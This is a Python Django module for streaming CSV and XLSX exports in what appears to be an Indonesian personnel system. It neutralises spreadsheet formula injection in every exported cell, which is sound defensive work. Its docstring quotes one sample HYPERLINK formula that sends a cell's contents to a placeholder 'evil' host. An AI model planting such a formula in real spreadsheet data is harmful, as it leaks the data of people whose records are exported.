"""Streaming CSV and XLSX exports (flat memory; the caller has applied scope), and the one
rule every spreadsheet writer of SIMASN follows against formula injection.

A value that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
spreadsheet programs as a formula (or a DDE call): an operator who names an employee
`=HYPERLINK("https://evil/?"&A2, "klik")` would run it in every export a national user
opens. So:
- CSV (no cell types): such a text gets a leading apostrophe (`escape_formula`), which
  spreadsheet programs take as "text follows" (OWASP's advice for CSV injection).
- XLSX: every text is written as a text cell, never a formula, and such a text carries
  Excel's quote prefix, so it stays text even when the cell is edited (`xlsx_row`,
  `xlsx_cell`): the visible text is exactly the value.
Every CSV and XLSX writer (web lists, the national export, the retirement projection,
the import reject report, the work-plan workbooks) goes through these functions.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import itertools
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

Column = tuple[str, Callable[[Any], Any]]


class _Echo:
    def write(self, value: str) -> str:
        return value


FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def escape_formula(value: Any) -> Any:
    """A CSV cell: numbers stay numbers, None is empty, a formula-like text gets a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | decimal.Decimal):
        return value
    text = str(value)
    return "'" + text if formula_like(text) else text


def escape_row(values: Iterable[Any]) -> list[Any]:
    return [escape_formula(value) for value in values]


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """An XLSX cell for `sheet` (write-only or not): text is always a text cell."""
    from openpyxl.cell import Cell, WriteOnlyCell  # openpyxl only when a workbook is written

    if isinstance(value, str) or (value is not None and not isinstance(value, _XLSX_NATIVE)):
        text = str(value)
        cell = WriteOnlyCell(sheet, value=text) if _write_only(sheet) else Cell(sheet, value=text)
        cell.data_type = "s"  # openpyxl would store a text beginning with "=" as a formula
        if formula_like(text):
            cell.quotePrefix = True
        return cell
    return value


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append`, every text made safe by `xlsx_cell`."""
    return [xlsx_cell(sheet, value) for value in values]


_XLSX_NATIVE = (bool, int, float, decimal.Decimal, dt.date, dt.datetime, dt.time)


def _write_only(sheet: Any) -> bool:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet  # as above

    return isinstance(sheet, WriteOnlyWorksheet)


def csv_rows(columns: list[Column], rows: Iterable[Any], delimiter: str = ",") -> Iterator[str]:
    writer = csv.writer(_Echo(), delimiter=delimiter)
    yield "\ufeff" + writer.writerow(escape_row(str(label) for label, _ in columns))
    for row in rows:
        yield writer.writerow(escape_row(get(row) for _, get in columns))


WIDTH_SAMPLE = 200


def _shown(value: Any) -> str:
    return value.isoformat() if isinstance(value, dt.date) else str(value)


def _cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    return str(value)


#: Excel set to Indonesian (decimal comma) splits CSV on ";", not ",".
EXCEL_ID_DELIMITER = ";"


def csv_response(filename: str, columns: list[Column], rows: Iterable[Any],
                 delimiter: str = ",") -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_rows(columns, rows, delimiter), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_bytes(columns: list[Column], rows: Iterable[Any], title: str = "Data") -> bytes:
    # Imported on first use: openpyxl takes ~0.2 s to import, paid only by XLSX work.
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    labels = [str(label) for label, _ in columns]
    # Column widths from the header and the first rows (a write-only sheet is written
    # row by row, so the widths are set before the first row).
    rows = iter(rows)
    first = [[_cell(get(row)) for _, get in columns] for row in itertools.islice(rows, WIDTH_SAMPLE)]
    for index, label in enumerate(labels, start=1):
        longest = max([len(label), *(len(_shown(r[index - 1])) for r in first)])
        sheet.column_dimensions[get_column_letter(index)].width = min(max(longest + 2, 8), 60)
    sheet.freeze_panes = "A2"
    sheet.append(xlsx_row(sheet, labels))
    count = 0
    for values in itertools.chain(first, ([_cell(get(row)) for _, get in columns] for row in rows)):
        sheet.append(xlsx_row(sheet, values))
        count += 1
    if labels:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(labels))}{count + 1}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename: str, columns: list[Column], rows: Iterable[Any], title: str = "Data") -> HttpResponse:
    response = HttpResponse(
        xlsx_bytes(columns, rows, title),
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response
